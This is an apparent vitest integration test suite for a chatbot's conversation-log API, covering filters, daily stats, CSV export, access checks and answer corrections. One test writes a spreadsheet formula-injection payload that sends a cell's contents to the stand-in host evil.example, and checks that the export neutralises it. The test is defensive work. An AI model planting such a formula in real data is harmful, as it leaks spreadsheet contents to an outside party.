import { beforeAll, describe, expect, it } from 'vitest';
import { and, eq, isNotNull } from 'drizzle-orm';
import { calendarDay, DEFAULT_TIME_ZONE } from '@miaoyu/contracts';
import {
  type BotLogConversation,
  type BotLogStats,
  type ConversationMessage,
} from '@miaoyu/contracts/bot';
import { chatMessages, chatSessions, orgMembers } from '../../../db/schema';
import { addKey, teamBot, visitorOf, type BotVisitor } from '../../../../test/bot';
import { CHAT_TEST_ENV, chatUsers, useLlmStub, type ChatUser } from '../../../../test/chat';
import { DATABASE_KINDS } from '../../../../test/databases';
import { parseCsv } from '../../../../test/csv';
import { useTestApp, type TestApp } from '../../../../test/harness';
import { knowledgeOf } from '../../../../test/knowledge';

const DAY_MS = 86_400_000;
const dayOf = (instant: Date) => calendarDay(instant, DEFAULT_TIME_ZONE);
/** The day before a calendar day. */
const dayBefore = (day: string) => dayOf(new Date(Date.parse(`${day}T12:00:00+08:00`) - DAY_MS));

/** A question with everything a CSV must escape: commas, quotes, a line break, Chinese. */
const TRICKY = '退货运费, 谁出?\n客服说"七天内"可以退';
const REASON = '没说清楚，到底要几天？';

/** Asks and answers the answer's id. */
async function answer(visitor: BotVisitor, sessionId: string, prompt: string): Promise<string> {
  const { res, events } = await visitor.ask(sessionId, prompt);
  expect(res.statusCode, res.body).toBe(200);
  const done = events.find((e) => e.event === 'done');
  return (done!.data as { answerId: string }).answerId;
}

/** Moves a conversation, its handoff and its messages to another time, as if all happened then. */
async function backdate(t: TestApp, sessionId: string, at: string) {
  const when = new Date(at);
  await t.app.db
    .update(chatSessions)
    .set({ createdAt: when })
    .where(eq(chatSessions.id, BigInt(sessionId)));
  await t.app.db
    .update(chatSessions)
    .set({ handedOffAt: when })
    .where(and(eq(chatSessions.id, BigInt(sessionId)), isNotNull(chatSessions.handedOffAt)));
  await t.app.db
    .update(chatMessages)
    .set({ createdAt: when })
    .where(eq(chatMessages.sessionId, BigInt(sessionId)));
}

describe.each(DATABASE_KINDS)('bot logs on %s', (kind) => {
  const env: Record<string, string> = { ...CHAT_TEST_ENV, JOBS_POLL_INTERVAL_MS: '500' };
  useLlmStub(env, ['stub-model'], { chunks: 1, delayMs: 0 });
  const t = useTestApp(kind, env);
  const user = chatUsers(t);
  const today = dayOf(new Date());
  /** Three days back and the day before: a conversation each side of their midnight (Shanghai). */
  const lateDay = dayOf(new Date(Date.now() - 3 * DAY_MS));
  const earlyDay = dayBefore(lateDay);
  const s = {} as {
    owner: ChatUser;
    bot: Awaited<ReturnType<typeof teamBot>>;
    secondKeyId: string;
    /** Today: one answer liked, one disliked with a reason. */
    rated: string;
    liked: string;
    disliked: string;
    /** Unanswered, disliked and handed to a person, late on `earlyDay` (UTC: `earlyDay` too). */
    handedOff: string;
    /** The tricky question, liked, just after midnight of `lateDay` (UTC: still `earlyDay`). */
    tricky: string;
    /** Today, not rated. */
    plain: string;
  };
  const logsUrl = () => `/v1/orgs/${s.bot.orgId}/bot-logs`;
  const ids = async (query: string) => {
    const res = await s.owner.get(`${logsUrl()}?${query}`);
    expect(res.statusCode, res.body).toBe(200);
    return (res.json().list as BotLogConversation[]).map((c) => c.id);
  };

  beforeAll(async () => {
    s.owner = await user('13955550001');
    s.bot = await teamBot(t, s.owner, 1);
    const second = await addKey(s.owner, s.bot.orgId, s.bot.helperId, { name: '公众号' });
    s.secondKeyId = second.id;

    const regular = await visitorOf(t, s.bot.key);
    s.rated = await regular.start();
    s.liked = await answer(regular, s.rated, '退货运费由谁承担？');
    s.disliked = await answer(regular, s.rated, '发票多久到？');
    expect((await regular.rate(s.liked, 'rating=like')).statusCode).toBe(200);
    const reason = `rating=dislike&reason=${encodeURIComponent(REASON)}`;
    expect((await regular.rate(s.disliked, reason)).statusCode).toBe(200);

    const fromSecond = await visitorOf(t, second.key);
    s.handedOff = await fromSecond.start();
    const unknown = await answer(fromSecond, s.handedOff, '你们支持火星配送吗？');
    await fromSecond.rate(unknown, 'rating=dislike');
    await fromSecond.post(`/v1/case/sessions/${s.handedOff}/handoff`);
    await backdate(t, s.handedOff, `${earlyDay}T23:30:00+08:00`);

    const careful = await visitorOf(t, s.bot.key);
    s.tricky = await careful.start();
    await careful.rate(await answer(careful, s.tricky, TRICKY), 'rating=like');
    await backdate(t, s.tricky, `${lateDay}T00:30:00+08:00`);

    s.plain = await regular.start();
    await answer(regular, s.plain, '发票多久到？');
  });

  it('lists conversations with their counts, filtered by day, key, feedback and handoff', async () => {
    const all = await s.owner.get(logsUrl());
    expect(all.json().total).toBe(4);
    const list = all.json().list as BotLogConversation[];
    expect(list.map((c) => c.id)).toEqual([s.plain, s.rated, s.tricky, s.handedOff]);
    expect(list[1]).toMatchObject({
      keyName: '官网',
      helperName: '售后客服',
      status: 'bot',
      messages: 4,
      likes: 1,
      dislikes: 1,
      unanswered: 0,
      handedOff: false,
    });
    expect(list[3]).toMatchObject({
      keyName: '公众号',
      status: 'pending',
      messages: 2,
      dislikes: 1,
      unanswered: 1,
      handedOff: true,
    });

    // Days are Shanghai's: both backdated conversations fall on one UTC day.
    expect(await ids(`from=${lateDay}&to=${lateDay}`)).toEqual([s.tricky]);
    expect(await ids(`from=${earlyDay}&to=${earlyDay}`)).toEqual([s.handedOff]);
    expect(await ids(`from=${earlyDay}&to=${lateDay}`)).toEqual([s.tricky, s.handedOff]);
    expect(await ids(`from=${today}&to=${today}`)).toEqual([s.plain, s.rated]);

    expect(await ids(`keyId=${s.secondKeyId}`)).toEqual([s.handedOff]);
    expect(await ids(`keyId=${s.bot.keyId}`)).toEqual([s.plain, s.rated, s.tricky]);
    expect(await ids('feedback=like')).toEqual([s.rated, s.tricky]);
    expect(await ids('feedback=dislike')).toEqual([s.rated, s.handedOff]);
    expect(await ids('feedback=any')).toEqual([s.rated, s.tricky, s.handedOff]);
    expect(await ids(`feedback=dislike&keyId=${s.bot.keyId}`)).toEqual([s.rated]);
    expect(await ids('unanswered=true')).toEqual([s.handedOff]);
    expect(await ids('handedOff=true')).toEqual([s.handedOff]);

    const paged = await s.owner.get(`${logsUrl()}?feedback=any&offset=1&limit=1`);
    expect(paged.json()).toMatchObject({ total: 3, list: [{ id: s.tricky }] });
    const backwards = await s.owner.get(`${logsUrl()}?from=${today}&to=${earlyDay}`);
    expect(backwards.statusCode).toBe(422);
    for (const range of ['from=2025-02-28&to=2025-02-30', 'from=0000-01-01&to=0000-01-02']) {
      const impossible = await s.owner.get(`${logsUrl()}/stats?${range}`);
      expect(impossible.statusCode, range).toBe(422);
    }
  });

  it("counts each key's conversations", async () => {
    const keysUrl = `/v1/orgs/${s.bot.orgId}/helpers/${s.bot.helperId}/bot-keys`;
    const keys = (await s.owner.get(keysUrl)).json().list as {
      id: string;
      conversations: number;
    }[];
    expect(keys.map((k) => [k.id, k.conversations])).toEqual([
      [s.bot.keyId, 3],
      [s.secondKeyId, 1],
    ]);
    // A change answers the key with its count too (same name: the export below reads it).
    const saved = await s.owner.patch(`${keysUrl}/${s.secondKeyId}`, { name: '公众号' });
    expect(saved.json()).toMatchObject({ name: '公众号', conversations: 1 });
  });

  it('counts each day of the range', async () => {
    const stats = await s.owner.get(`${logsUrl()}/stats?from=${earlyDay}&to=${today}`);
    expect(stats.statusCode, stats.body).toBe(200);
    const zero = { conversations: 0, questions: 0, likes: 0, dislikes: 0, handedOff: 0 };
    const days = (stats.json() as BotLogStats).days;
    expect(days.map((d) => d.day)).toHaveLength(5);
    expect(days[0]).toEqual({
      ...zero,
      day: earlyDay,
      conversations: 1,
      questions: 1,
      dislikes: 1,
      handedOff: 1,
    });
    expect(days[1]).toEqual({ ...zero, day: lateDay, conversations: 1, questions: 1, likes: 1 });
    expect(days[2]).toMatchObject(zero);
    expect(days[3]).toMatchObject(zero);
    expect(days[4]).toEqual({
      ...zero,
      day: today,
      conversations: 2,
      questions: 3,
      likes: 1,
      dislikes: 1,
    });

    const oneKey = await s.owner.get(
      `${logsUrl()}/stats?from=${earlyDay}&to=${today}&keyId=${s.secondKeyId}`,
    );
    const counted = (oneKey.json() as BotLogStats).days.filter((d) => d.conversations > 0);
    expect(counted.map((d) => d.day)).toEqual([earlyDay]);
  });

  it('counts questions, ratings and handoffs on the day they happened', async () => {
    // The handed-off conversation began on `earlyDay`; its question moves to `lateDay` noon
    // and the handoff to today, as if the visitor came back.
    const question = and(
      eq(chatMessages.sessionId, BigInt(s.handedOff)),
      eq(chatMessages.role, 'user'),
    );
    const session = eq(chatSessions.id, BigInt(s.handedOff));
    await t.app.db
      .update(chatMessages)
      .set({ createdAt: new Date(`${lateDay}T12:00:00+08:00`) })
      .where(question);
    await t.app.db.update(chatSessions).set({ handedOffAt: new Date() }).where(session);
    try {
      const stats = await s.owner.get(`${logsUrl()}/stats?from=${lateDay}&to=${today}`);
      const days = (stats.json() as BotLogStats).days;
      // Begun before the range, asked inside it: the question counts on its own day.
      expect(days[0]).toMatchObject({ day: lateDay, conversations: 1, questions: 2, likes: 1 });
      expect(days.at(-1)).toMatchObject({
        day: today,
        conversations: 2,
        questions: 3,
        handedOff: 1,
      });
      const early = await s.owner.get(`${logsUrl()}/stats?from=${earlyDay}&to=${earlyDay}`);
      expect((early.json() as BotLogStats).days).toEqual([
        { day: earlyDay, conversations: 1, questions: 0, likes: 0, dislikes: 1, handedOff: 0 },
      ]);
      // The list still holds the conversations begun inside the range.
      expect(await ids(`from=${lateDay}&to=${today}`)).toEqual([s.plain, s.rated, s.tricky]);
    } finally {
      await backdate(t, s.handedOff, `${earlyDay}T23:30:00+08:00`);
    }
  });

  it('exports one CSV line per message that reads back as sent', async () => {
    const res = await s.owner.get(`${logsUrl()}/export`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toContain('attachment');
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(res.body.slice(1));
    expect(rows[0]).toEqual([
      'conversation',
      'time',
      'bot',
      'key',
      'visitor',
      'from',
      'agent',
      'message',
      'rating',
      'reason',
      'unanswered',
    ]);
    const lines = rows.slice(1);
    expect(lines).toHaveLength(10);
    expect(lines.every((line) => line.length === 11)).toBe(true);
    expect(lines.map((line) => line[0])).toEqual(
      [s.rated, s.handedOff, s.tricky, s.plain].flatMap((id) =>
        Array<string>(id === s.rated ? 4 : 2).fill(id),
      ),
    );
    const asked = lines.find((line) => line[0] === s.tricky && line[5] === 'visitor');
    expect(asked?.[7]).toBe(TRICKY);
    expect(asked?.[2]).toBe('售后客服');
    const disliked = lines.find((line) => line[8] === 'dislike' && line[0] === s.rated);
    expect(disliked?.slice(5, 11)).toEqual(['bot', '', disliked![7], 'dislike', REASON, '']);
    const unknown = lines.find((line) => line[0] === s.handedOff && line[5] === 'bot');
    expect(unknown?.[10]).toBe('yes');
    expect(unknown?.[3]).toBe('公众号');

    const oneKey = await s.owner.get(`${logsUrl()}/export?keyId=${s.secondKeyId}`);
    expect(parseCsv(oneKey.body.slice(1))).toHaveLength(3);
  });

  it('exports what a visitor wrote as text, never as a spreadsheet formula', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&B2,"点我")';
    const question = and(
      eq(chatMessages.sessionId, BigInt(s.plain)),
      eq(chatMessages.role, 'user'),
    );
    const [before] = await t.app.db.select().from(chatMessages).where(question);
    await t.app.db.update(chatMessages).set({ content: formula }).where(question);
    try {
      const res = await s.owner.get(`${logsUrl()}/export`);
      const asked = parseCsv(res.body.slice(1)).find(
        (line) => line[0] === s.plain && line[5] === 'visitor',
      );
      // A leading quote makes Excel and WPS show the cell as typed instead of running it.
      expect(asked?.[7]).toBe(`'${formula}`);
    } finally {
      await t.app.db.update(chatMessages).set({ content: before!.content }).where(question);
    }
  });

  it("shows a conversation's messages with their ratings, only to its own team", async () => {
    const res = await s.owner.get(`${logsUrl()}/${s.rated}/messages`);
    expect(res.statusCode, res.body).toBe(200);
    const list = res.json().list as ConversationMessage[];
    expect(list.map((m) => [m.role, m.rating, m.ratingReason])).toEqual([
      ['visitor', null, ''],
      ['bot', 'like', ''],
      ['visitor', null, ''],
      ['bot', 'dislike', REASON],
    ]);
    const otherOrg: string = (await s.owner.post('/v1/orgs', { name: '别的团队' })).json().id;
    const elsewhere = await s.owner.get(`/v1/orgs/${otherOrg}/bot-logs/${s.rated}/messages`);
    expect(elsewhere.statusCode).toBe(404);
  });

  it("corrects an answer into a dataset's Q&A, found by the next search", async () => {
    const { owner, bot } = s;
    const correctionUrl = (orgId: string, messageId: string) =>
      `/v1/orgs/${orgId}/bot-logs/messages/${messageId}/correction`;
    const fix = {
      datasetId: bot.datasetId,
      question: '发票多久能收到？',
      answer: '电子发票在两个工作日内发到邮箱，纸质发票五个工作日内寄出。',
    };
    const member = await user('13955550002');
    await t.app.db
      .insert(orgMembers)
      .values({ orgId: BigInt(bot.orgId), userId: BigInt(member.id), role: 'member' });
    expect((await member.post(correctionUrl(bot.orgId, s.disliked), fix)).statusCode).toBe(403);

    const otherOrg: string = (await owner.post('/v1/orgs', { name: '另一个团队' })).json().id;
    const otherKb = knowledgeOf(t, owner, otherOrg);
    const otherDataset = await otherKb.create('别人的库');
    const fromOtherOrg = await owner.post(correctionUrl(otherOrg, s.disliked), {
      ...fix,
      datasetId: otherDataset,
    });
    expect(fromOtherOrg.statusCode).toBe(404);
    const intoOtherOrg = await owner.post(correctionUrl(bot.orgId, s.disliked), {
      ...fix,
      datasetId: otherDataset,
    });
    expect(intoOtherOrg.statusCode).toBe(404);
    expect(await otherKb.documents(otherDataset)).toEqual([]);
    // Only an answer is corrected, not the visitor's question.
    const question = (await owner.get(`${logsUrl()}/${s.rated}/messages`)).json().list[2].id;
    expect((await owner.post(correctionUrl(bot.orgId, question), fix)).statusCode).toBe(404);

    const made = await owner.post(correctionUrl(bot.orgId, s.disliked), fix);
    expect(made.statusCode, made.body).toBe(200);
    const { documentId, datasetId } = made.json();
    expect(datasetId).toBe(bot.datasetId);
    const kb = knowledgeOf(t, owner, bot.orgId);
    const settled = await kb.settled(bot.datasetId);
    expect(settled.find((d) => d.id === documentId)).toMatchObject({
      source: 'qa',
      name: fix.question,
      status: 'done',
    });
    const found = await kb.search(bot.datasetId, '纸质发票几个工作日寄出');
    expect(found.statusCode, found.body).toBe(200);
    const hit = (found.json().list as { documentId: string; content: string }[]).find(
      (c) => c.documentId === documentId,
    );
    expect(hit?.content).toContain('五个工作日内寄出');
  });
});
